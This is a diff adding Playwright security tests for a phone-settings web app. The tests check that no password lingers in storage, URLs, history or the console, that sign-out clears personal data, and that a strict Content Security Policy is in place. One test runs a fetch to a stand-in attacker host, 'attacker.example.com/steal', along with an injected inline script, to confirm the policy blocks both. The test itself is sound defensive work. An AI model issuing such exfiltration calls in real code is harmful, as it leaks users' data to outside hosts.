@@ -1,0 +1,236 @@
+/**
+ * Credential hygiene: after a full session (sign in, visit every page, change something, sign out)
+ * no password or PIN is in storage, cookies, IndexedDB, a requested URL, a history entry or the
+ * console; the CSP of the build allows scripts from self only and connections to the configured API
+ * origins only; and sign-out leaves no personal data behind.
+ */
+import { readFileSync } from 'node:fs'
+import type { Page } from '@playwright/test'
+import { test, expect } from '../support/fixtures.ts'
+import { navigateTo, signInAs } from './support.ts'
+
+/** A password nobody else uses, so finding it anywhere is a leak and not a coincidence. */
+const PASSWORD = 'Qx7-hygiene-Pa55word'
+
+const PAGES = [
+  'Profile',
+  'Call forwarding',
+  'Do not disturb',
+  'Speed dials',
+  'Single Number Reach',
+  'PIN and password',
+]
+
+/** Every form a secret could take on the way out. */
+function encodings(secret: string, userId = 'demo'): string[] {
+  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64')
+  return [secret, encodeURIComponent(secret), b64(secret), b64(`${userId}:${secret}`)]
+}
+
+/** Records every history entry the app writes (pushState/replaceState), with its state object. */
+async function recordHistory(page: Page): Promise<Array<{ url: string; state: string }>> {
+  const entries: Array<{ url: string; state: string }> = []
+  await page.exposeBinding('__recordHistory', (_source, url: string, state: string) => {
+    entries.push({ url, state })
+  })
+  await page.addInitScript(() => {
+    const record = (window as unknown as { __recordHistory: (u: string, s: string) => void }).__recordHistory
+    for (const method of ['pushState', 'replaceState'] as const) {
+      const original = history[method].bind(history)
+      history[method] = (state: unknown, unused: string, url?: string | URL | null) => {
+        original(state, unused, url)
+        void record(location.href, JSON.stringify(state) ?? '')
+      }
+    }
+  })
+  return entries
+}
+
+/** localStorage, sessionStorage and every IndexedDB record, as one text. */
+async function browserStorage(page: Page): Promise<string> {
+  return page.evaluate(async () => {
+    const dump: Record<string, unknown> = {
+      localStorage: { ...localStorage },
+      sessionStorage: { ...sessionStorage },
+    }
+    const dbs = (await indexedDB.databases?.()) ?? []
+    for (const info of dbs) {
+      if (!info.name) continue
+      const db = await new Promise<IDBDatabase>((resolve, reject) => {
+        const open = indexedDB.open(info.name!)
+        open.onsuccess = () => resolve(open.result)
+        open.onerror = () => reject(open.error)
+      })
+      for (const store of db.objectStoreNames) {
+        dump[`idb:${info.name}:${store}`] = await new Promise((resolve) => {
+          const all = db.transaction(store).objectStore(store).getAll()
+          all.onsuccess = () => resolve(all.result)
+          all.onerror = () => resolve(String(all.error))
+        })
+      }
+      db.close()
+    }
+    return JSON.stringify(dump)
+  })
+}
+
+function expectFree(where: string, haystack: string, secrets: string[]) {
+  for (const secret of secrets) expect(haystack, `${where} holds a secret`).not.toContain(secret)
+}
+
+test.describe('credential hygiene', () => {
+  test('a full session leaves no password or PIN in storage, cookies, IndexedDB, URLs, history or the console', async ({
+    page,
+    context,
+    mock,
+    request,
+  }) => {
+    // A distinctive password for demo, set on the server before the session.
+    const set = await request.put(`${mock.url}/cucm-uds/user/demo/credentials`, {
+      headers: {
+        Authorization: `Basic ${Buffer.from('demo:demo').toString('base64')}`,
+        'Content-Type': 'application/xml',
+      },
+      data: `<credentials><credential type="password">${PASSWORD}</credential></credentials>`,
+    })
+    expect(set.status()).toBe(204)
+    const secrets = encodings(PASSWORD)
+
+    const urls: string[] = []
+    const authorizedOrigins = new Set<string>()
+    page.on('request', (r) => {
+      urls.push(r.url())
+      if (r.headers()['authorization']) authorizedOrigins.add(new URL(r.url()).origin)
+    })
+    const consoleLines: string[] = []
+    page.on('console', (m) => consoleLines.push(`${m.type()}: ${m.text()}`))
+    page.on('pageerror', (e) => consoleLines.push(`pageerror: ${e.message}`))
+    const history = await recordHistory(page)
+
+    await page.goto('/sign-in')
+    await signInAs(page, 'demo', PASSWORD)
+    // Change something, then visit every page (and reload once: the session asks again).
+    await page.getByLabel('Display name').fill('Dana Hygiene')
+    await page.getByRole('button', { name: 'Save profile' }).click()
+    await expect(page.getByRole('status').filter({ hasText: 'Profile saved' })).toBeVisible()
+    for (const name of PAGES) await navigateTo(page, name)
+    await page.reload()
+    await page.getByLabel('Password', { exact: true }).fill(PASSWORD)
+    await page.getByRole('button', { name: 'Sign in' }).click()
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    await navigateTo(page, 'Profile')
+
+    // While signed in: nothing at rest holds the password.
+    expectFree('storage (signed in)', await browserStorage(page), secrets)
+    expectFree('cookies (signed in)', JSON.stringify(await context.cookies()), secrets)
+
+    await page.getByRole('button', { name: 'Sign out' }).click()
+    await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()
+
+    expectFree('storage', await browserStorage(page), secrets)
+    // credentials: 'omit' — the mock's JSESSIONID is never stored.
+    expect(await context.cookies()).toEqual([])
+    expectFree('requested URLs', urls.join('\n'), secrets)
+    expectFree('history entries', JSON.stringify(history), secrets)
+    expect(history.length, 'history was recorded').toBeGreaterThan(3)
+    expectFree('console', consoleLines.join('\n'), secrets)
+    expectFree('DOM after sign-out', await page.content(), secrets)
+    // Credentials only ever went to the API server.
+    expect([...authorizedOrigins]).toEqual([mock.url])
+  })
+
+  test('sign-out leaves no personal data in the DOM, and the cache is gone: /profile asks to sign in', async ({
+    page,
+  }) => {
+    const personal = [
+      'Dana',
+      'Morgan',
+      'demo@example.com',
+      '1001',
+      '1002',
+      '+13125550177',
+      'Priya Raman',
+      'Customer Success',
+    ]
+    await page.goto('/sign-in')
+    await signInAs(page, 'demo')
+    for (const name of PAGES) await navigateTo(page, name)
+    await navigateTo(page, 'Profile')
+    await expect(page.getByRole('main')).toContainText('Dana Morgan')
+
+    await page.getByRole('button', { name: 'Sign out' }).click()
+    await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()
+    const afterSignOut = await page.locator('body').innerText()
+    for (const value of personal)
+      expect(afterSignOut, `DOM after sign-out shows ${value}`).not.toContain(value)
+
+    // In-app navigation back to a signed-in page (no reload, so any cache would still be in memory).
+    await page.goBack()
+    await expect(page.getByRole('heading', { level: 1, name: /sign in/i })).toBeVisible()
+    await page.evaluate(() => {
+      history.pushState(null, '', '/profile')
+      dispatchEvent(new PopStateEvent('popstate'))
+    })
+    await expect(page.getByLabel('Password', { exact: true })).toBeVisible()
+    const text = await page.locator('body').innerText()
+    for (const value of personal) expect(text, `/profile after sign-out shows ${value}`).not.toContain(value)
+    expect(await page.getByLabel('Password', { exact: true }).inputValue()).toBe('')
+  })
+})
+
+test.describe('content security policy', () => {
+  const html = readFileSync(new URL('../../dist/index.html', import.meta.url), 'utf8')
+  const config = JSON.parse(readFileSync(new URL('../../public/config.json', import.meta.url), 'utf8')) as {
+    udsBaseUrl: string
+    cupiBaseUrl?: string | null
+  }
+
+  function directives(policy: string): Map<string, string[]> {
+    return new Map(
+      policy
+        .split(';')
+        .map((d) => d.trim().split(/\s+/))
+        .filter((d) => d[0])
+        .map(([name, ...values]) => [name!, values]),
+    )
+  }
+
+  test('the built index.html allows scripts from self only and connections to the configured API origins only', () => {
+    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)
+    expect(meta, 'a CSP meta tag').not.toBeNull()
+    const csp = directives(meta![1]!)
+    expect(csp.get('script-src')).toEqual(["'self'"])
+    const apiOrigins = [config.udsBaseUrl, config.cupiBaseUrl].filter(Boolean).map((u) => new URL(u!).origin)
+    expect(new Set(csp.get('connect-src'))).toEqual(new Set(["'self'", ...apiOrigins]))
+    expect(csp.get('object-src')).toEqual(["'none'"])
+    expect(csp.get('base-uri')).toEqual(["'none'"])
+    expect(csp.get('default-src')).toEqual(["'self'"])
+    // No inline script for 'self' to have to allow.
+    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/)
+    expect(html).not.toMatch(/\son[a-z]+=/i)
+  })
+
+  test('in the browser the policy holds: no other origin, no injected inline script', async ({ page }) => {
+    const violations: string[] = []
+    page.on('console', (m) => {
+      if (/Content Security Policy/i.test(m.text())) violations.push(m.text())
+    })
+    await page.goto('/sign-in')
+    const outcome = await page.evaluate(async () => {
+      let fetched = 'blocked'
+      try {
+        await fetch('https://attacker.example.com/steal', { mode: 'no-cors' })
+        fetched = 'sent'
+      } catch {
+        // blocked by connect-src
+      }
+      const script = document.createElement('script')
+      script.textContent = 'window.__injected = true'
+      document.body.appendChild(script)
+      await new Promise((r) => setTimeout(r, 50))
+      return { fetched, injected: (window as unknown as { __injected?: boolean }).__injected === true }
+    })
+    expect(outcome).toEqual({ fetched: 'blocked', injected: false })
+    expect(violations.length).toBeGreaterThanOrEqual(2)
+  })
+})
